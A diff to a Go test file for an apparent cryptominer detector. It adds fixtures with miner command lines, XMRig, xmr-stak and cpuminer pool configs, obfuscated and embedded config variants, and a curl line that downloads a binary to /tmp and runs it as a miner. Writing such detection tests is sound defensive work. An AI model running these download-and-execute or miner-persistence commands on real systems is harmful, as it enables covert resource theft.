@@ -38,6 +38,9 @@ func TestCommandLine(t *testing.T) {
 	if c, ok := CommandLine("/tmp/.x/kswapd0 -o 203.0.113.77:3333 -u " + addr + " -p x --tls"); !ok || c.Host != "203.0.113.77" || c.Wallet != addr {
 		t.Errorf("%+v %v", c, ok)
 	}
+	if c, ok := CommandLine("curl -s http://203.0.113.77/x -o /tmp/x; /tmp/x -o 203.0.113.77:3333 -u " + addr + " -p x"); !ok || c.Pool != "203.0.113.77:3333" {
+		t.Errorf("behind a download: %+v %v", c, ok)
+	}
 	for _, benign := range []string{"curl -o /tmp/out http://x", "sort -o out -u in", "gcc -o prog x.c"} {
 		if c, ok := CommandLine(benign); ok {
 			t.Errorf("%q is taken for %+v", benign, c)
@@ -62,6 +65,12 @@ func TestFind(t *testing.T) {
 	}{
 		{"XMRig", `{"pools":[{"url":"203.0.113.77:3333","user":"` + addr + `"}],"donate-level":1}`, false, InFile, ""},
 		{"xmr-stak", "/* pools */ \"pool_list\" :\n[ {\"pool_address\" : \"203.0.113.77:3333\", \"wallet_address\" : \"" + addr + "\", \"rig_id\" : \"\", },\n],\n\"currency\" : \"monero\",\n", false, InFile, ""},
+		{"keys with escapes", `{"p\u006fols":[{"url":"203.0.113.77:3333","u\u0073er":"` + addr + `"}],"donate-level":1}`, false, InFile, ""},
+		{"cpuminer", "{\n\"url\" : \"stratum+tcp://203.0.113.77:3333\",\n\"user\" : \"" + addr + "\",\n\"pass\" : \"x\",\n\"algo\" : \"cryptonight\",\n}", false, InFile, ""},
+		{"here-document", "#!/bin/sh\ncat > c.json <<E\n{\"pools\":[{\"url\":\"203.0.113.77:3333\",\"user\":\"" + addr + "\",\"pass\":\"x\"}]}\nE\n", false, InAssignments, ""},
+		{"string of a program", `var c = "{\"pools\":[{\"url\":\"203.0.113.77:3333\",\"user\":\"` + addr + `\"}]}";`, false, InAssignments, ""},
+		{"dict of Python", "c = {'pools': [{'url': '203.0.113.77:3333', 'user': '" + addr + "', 'tls': False}]}\n", false, InAssignments, ""},
+		{"variables of a container", `{"ID":"a","Config":{"Env":["PATH=/bin","POOL=203.0.113.77:3333","WALLET=` + addr + `"],"Image":"x"}}`, false, InAssignments, ""},
 		{"unit", "[Service]\nExecStart=" + command + "\nRestart=always\n", false, InCommand, ""},
 		{"crontab", "* * * * * root " + command + "\n", false, InCommand, ""},
 		{"log", "Jan  2 03:04:05 web CRON[77]: (root) CMD (" + command + ")\n", false, InCommand, ""},
@@ -103,6 +112,9 @@ func TestFind(t *testing.T) {
 		"four times encoded":  b64("b " + b64("c "+b64("d "+b64(command)))),
 		"a changed address":   "WALLET=" + strings.Replace(addr, "Nfc8", "Nfc9", 1),
 		"downloads":           "curl -o /tmp/x https://example.invalid:8443/x && sort -o a -u b\n",
+		"a service":           `{"url":"https://api.example.invalid:8443/v1","user":"app","pass":"x"}`,
+		"a data base":         "c = {'url': 'postgres://db:5432/x', 'user': 'app'}\n",
+		"variables":           `{"Config":{"Env":["POOL=db:5432","WALLET=none"]}}`,
 		"other pools":         "DB_POOL=10\nPOOL_URL=postgres://db:5432\n",
 		"a certificate":       "-----BEGIN CERTIFICATE-----\n" + b64(strings.Repeat("\x30\x82\x01\x99abc", 100)) + "\n",
 		"words of the matter": "Set --url to stratum+tcp://HOST and --user to your wallet",
